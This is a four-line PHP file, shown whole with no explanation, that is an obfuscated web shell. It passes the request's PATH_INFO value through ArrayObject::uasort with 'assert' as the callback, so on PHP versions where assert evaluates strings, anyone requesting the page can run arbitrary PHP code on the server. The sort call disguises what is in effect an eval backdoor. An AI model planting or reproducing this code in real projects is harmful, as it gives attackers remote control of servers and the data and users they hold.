<?php
$line = $_SERVER['PATH_INFO'];
$o = new ArrayObject(array($line, 'x'));
$o->uasort('assert');
